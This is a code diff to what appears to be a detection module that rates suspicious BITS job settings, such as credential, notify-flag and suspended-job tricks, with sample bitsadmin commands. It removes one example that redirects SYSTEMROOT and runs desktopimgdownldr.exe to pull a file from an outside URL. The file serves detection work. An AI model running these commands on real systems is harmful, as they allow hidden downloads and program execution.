@@ -31,7 +31,6 @@ const rows: readonly Row[] = [
   { name: 'validation', impact: 60, confidence: 35, sentence: 'how the job is validated is changed', example: '/setvalidationstate job 0 TRUE' },
   { name: 'credentials', impact: 65, confidence: 45, sentence: 'user name and password are given on the command line', example: '/setcredentials job SERVER BASIC user x' },
   { name: 'storedcredential', impact: 65, confidence: 40, sentence: 'stored credentials of the user go to the server', example: '' },
-  { name: 'environment', impact: 75, confidence: 55, sentence: 'the environment is changed first, so that files land elsewhere', example: '' },
   { name: 'notifyflags', impact: 65, confidence: 40, sentence: 'when BITS starts the program of the job is changed', example: '/setnotifyflags job 3' },
   { name: 'suspended', impact: 60, confidence: 25, sentence: 'the job is made asleep, to be filled and woken by other commands', example: '' },
   { name: 'allusers', impact: 50, confidence: 15, sentence: "other users' jobs are looked at", example: '/list /allusers' },
@@ -51,7 +50,6 @@ export const settingSignals: readonly Signal[] = rows.map(({ name, impact, confi
 }));
 
 function exampleOf(name: SettingName, switches: string): Signal['examples'][number] {
-  if (name === 'environment') return { process_name: 'cmd.exe', process: 'cmd /c "set SYSTEMROOT=C:\\Windows\\Temp&& desktopimgdownldr.exe /lockscreenurl:https://files.example.net/a.7z /eventName:e"' };
   const ScriptBlockText = scripts[name];
   return ScriptBlockText === undefined ? { process_name: 'bitsadmin.exe', process: `bitsadmin ${switches}` } : { ScriptBlockText };
 }
